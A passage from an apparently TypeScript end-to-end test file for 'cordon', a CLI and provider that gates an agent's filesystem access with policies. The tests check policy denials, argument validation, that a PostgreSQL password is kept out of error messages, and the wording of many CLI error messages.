    expect(answers.get(1)!['instructions']).toContain(`/filesystem on ${files}.`)
    expect((answers.get(2)!['tools'] as { name: string }[]).length).toBe(14)
    expect(answers.get(3)!['content']).toEqual([{ type: 'text', text: 'greetings\n' }])
    expect(answers.get(6)!['content']).toEqual([
      { type: 'text', text: 'x'.repeat(most - 1) }, // the character that would be cut is left out, and the rest is said
      { type: 'text', text: `bytes 0 to ${most - 1} of ${most + 15}; go on with start: ${most - 1}` },
    ])
    expect(answers.get(4)).toMatchObject({
      isError: true,
      content: [
        {
          type: 'text',
          text: `policy_denied: /filesystem/file/write on ${join(files, 'hello.txt')}: no policy permits it`,
        },
      ],
    })
    // A model that forgot the content did not mean to empty the file; nothing is asked of the provider.
    expect(answers.get(5)).toEqual({
      isError: true,
      content: [{ type: 'text', text: 'args_invalid: give content or content_base64, and not both' }],
    })
  })
})

describe('PostgreSQL', () => {
  let postgres: Postgres
  beforeAll(async () => {
    postgres = await startPostgres()
  })
  afterAll(() => postgres.stop())

  test('the same with one switch; the password is in no message', async () => {
    const url = postgres.database('e2e')
    const started = await serve({ CORDON_PROVIDER_DATABASE: url })
    const more = { CORDON_PROVIDER_DATABASE: url, CORDON_PROVIDER_URL: started.url }
    const on = (...args: string[]): Ended => cordon({ cwd: dir, home, env: more }, ...args)
    said(on('provider', 'app', 'create', 'pg', '--policy', `filesystem:subdir-read,prefix=${files}`))
    expect(on('provider', 'mint', '--app', 'pg', '--prefix', files).code).toBe(0)
    expect(said(on('provider', 'call', '--app', 'pg', 'file_read', join(files, 'hello.txt')))).toBe(
      'greetings\n',
    )
    expect(said(on('audit', 'verify'))).toMatch(/the chain is whole/)
    const ended = once(started.child, 'exit')
    started.child.kill('SIGTERM')
    expect(await ended).toEqual([0, null])
    const wrong = cordon(
      { cwd: dir, home, env: { CORDON_PROVIDER_DATABASE: 'postgres://u:hunter2@127.0.0.1:1/x' } },
      'provider',
      'app',
      'ls',
    )
    expect(wrong.code).toBe(1)
    expect(wrong.stderr).toMatch(/^cordon: the provider's database cannot be used: /)
    expect(wrong.stderr).not.toContain('hunter2')
  })
})

test('a wrong command line says what to write', () => {
  expect(run('provider', 'app', 'create', 'x', '--policy', 'filesystem:subdir-read').stderr).toBe(
    'cordon: filesystem:subdir-read needs prefix=…, as in filesystem:subdir-read,prefix=/repos/acme\n',
  )
  expect(run('provider', 'serve', '--host', '0.0.0.0').stderr).toContain(
    'will not listen on 0.0.0.0 without TLS',
  )
  for (const [args, words] of [
    [
      ['serve', '--port', new URL(env['CORDON_PROVIDER_URL']!).port],
      /^cordon: cannot listen on 127.0.0.1 port \d+: another program has that port; it may be a provider that runs already\n {2}fix: stop that one, or another --port\n$/,
    ],
    [['serve', '--port', '65536'], /^cordon: --port expects a number up to 65535\n$/],
    [
      ['serve', '--port', '0', '--approval-ttl', '6m'],
      /^cordon: --approval-ttl is at least 1s and at most 5m\n$/,
    ],
    [
      ['serve', '--port', '0', '--approval-ttl', '0s'],
      /^cordon: --approval-ttl is at least 1s and at most 5m\n$/,
    ],
    [['serve', '--port', '0', '--tls-cert', '/none', '--tls-key', '/none'], /^cordon: cannot read \/none: /],
    [
      ['serve', '--port', '0', '--tls-cert', CORDON, '--tls-key', CORDON],
      /^cordon: the certificate and its key cannot be used: /,
    ],
    [['console', '--origin', 'nonsense'], /^cordon: nonsense is not an origin: /],
    [
      ['policy', 'explain', '--app', 'model', '/filesystem/file/read', '/x', '--size', 'big'],
      /^cordon: --size expects a number of bytes\n$/,
    ],
    [
      ['policy', 'explain', '--app', 'model', 'file_nope', '/x'],
      /^cordon: there is no command file_nope; there are: file_read, /,
    ],
    [
      ['policy', 'explain', '--app', 'model', 'file_move', '/x'],
      /^cordon: move and copy have a --destination/,
    ],
    [
      ['call', '--app', 'model', 'file_write', '/x', '--file', '/dev'],
      /^cordon: cannot send \/dev: it is not a regular/,
    ],
    [
      ['app', 'create', 'x', '--policy', 'filesystem:extension-filter,extensions=.ts,applies=al'],
      /^cordon: filesystem:extension-filter: applies is all or writes, not "al"\n$/,
    ],
    [
      ['policy', 'test', '--app', 'model'],
      /^cordon: no cases are kept beside it, so nothing was tested\n {2}fix: cordon provider policy set --app model --file FILE --cases CASES\n$/,
    ],
    [
      ['call', '--app', 'nobody', 'file_read', '/x'],
      /^cordon: there is no agent's key in \S+\/agents\/nobody; `cordon provider app create nobody` makes one\n$/,
    ],
    [
      ['call', '--app', 'modle', 'file_read', '/x'],
      /^cordon: no app modle has a wallet here\n {2}fix: did you mean --app model\?\n$/,
    ],
    [
      ['call', '--app', 'model', 'file_read', 'hello.txt'],
      /^cordon: no_delegation: .*\n {2}fix: write the whole path: \/\S+\/hello\.txt\n$/,
    ],
    [
      ['passkey', 'add', '--origin', 'http://localhost:1'],
      /^warning: nobody answers at http:\/\/localhost:1 now: .*\nopen this in your browser/,
    ],
    [
      ['wallet', 'ls', '--wallet', 'none'],
      /^cordon: there is no agent's key in \S+\/none; `cordon provider wallet create --wallet \S+\/none` makes one\n$/,
    ],
    [['call', '--app', 'model', 'file_write', '/x', '--file', '/none'], /^cordon: cannot read \/none: /],
  ] as const)
    expect(run('provider', ...args).stderr).toMatch(words)
  expect(readFileSync(join(files, 'hello.txt'), 'utf8')).toBe('greetings\n')
})
